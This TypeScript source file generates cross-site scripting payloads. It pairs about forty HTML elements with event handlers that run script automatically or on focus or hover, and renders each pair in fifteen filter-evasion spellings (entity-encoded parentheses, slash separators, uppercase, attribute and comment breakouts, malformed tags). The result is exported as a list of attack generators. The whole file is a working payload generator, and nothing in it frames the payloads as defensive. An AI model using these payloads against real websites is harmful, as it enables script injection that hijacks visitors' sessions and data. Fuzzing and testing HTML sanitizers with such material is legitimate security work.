import { type Attack, pair } from '../payload.ts'

/** Elements that raise the event by themselves, or when the pointer or the focus comes by. */
const carriers: readonly (readonly [opening: string, event: string])[] = [
  ['img src=x', 'onerror'],
  ['img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=', 'onload'],
  ['image src=x', 'onerror'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['input type=image src=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['iframe src=x', 'onload'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['script src=x', 'onerror'],
  ['style', 'onload'],
  ['details open', 'ontoggle'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href=# autofocus', 'onfocus'],
  ['div tabindex=0 autofocus', 'onfocusin'],
  ['div contenteditable', 'onfocus'],
  ['div', 'onclick'],
  ['div', 'onmouseover'],
  ['div', 'onpointerenter'],
  ['a', 'onmouseenter'],
  ['b', 'onpointerover'],
  ['p', 'onauxclick'],
  ['marquee', 'onstart'],
  ['marquee loop=1', 'onfinish'],
  ['form><button', 'onclick'],
  ['dialog open', 'onclose'],
  ['xss', 'onclick'],
  ['xss id=x tabindex=1', 'onfocus'],
  ['div style="animation:a 1ms"', 'onanimationstart'],
  ['div style="transition:color 1ms"', 'ontransitionend'],
  ['summary', 'onclick'],
  ['label', 'onpointerdown'],
]

type Spelling = (opening: string, event: string, code: string) => string

const spellings: readonly Spelling[] = [
  (opening, event, code) => `<${opening} ${event}=${code}>`,
  (opening, event, code) => `<${opening} ${event}="${code}">`,
  (opening, event, code) => `<${opening} ${event}='${code}'>`,
  (opening, event, code) => `<${opening} ${event.toUpperCase()}=${code}>`,
  (opening, event, code) => `<${opening.replaceAll(' ', '/')}/${event}=${code}>`,
  (opening, event, code) => `<${opening}\t${event} = "${code}">`,
  (opening, event, code) => `<${opening} ${event}=${code.replace('(', '&#40;').replace(')', '&#x29;')}>`,
  (opening, event, code) => `<${opening} ${event}=\`${code}\`>`,
  (opening, event, code) => `<${opening} ${event}=${code} `,
  (opening, event, code) => `<${opening.toUpperCase()} x="> " ${event}=${code}>`,
  (opening, event, code) => `"><${opening} ${event}=${code}>`,
  (opening, event, code) => `'-->&lt;/p></p><${opening} ${event}=${code}>`,
  (opening, event, code) => `<${opening} a=1 ${event}=${code} ${event}=1>`,
  (opening, event, code) => `**<${opening} ${event}=${code}>**`,
  (opening, event, code) => `<<${opening} ${event}=${code}//<`,
]

export const eventHandlers: readonly Attack[] = pair(
  carriers,
  spellings,
  ([opening, event], spell): Attack =>
    code =>
      spell(opening, event, code),
)
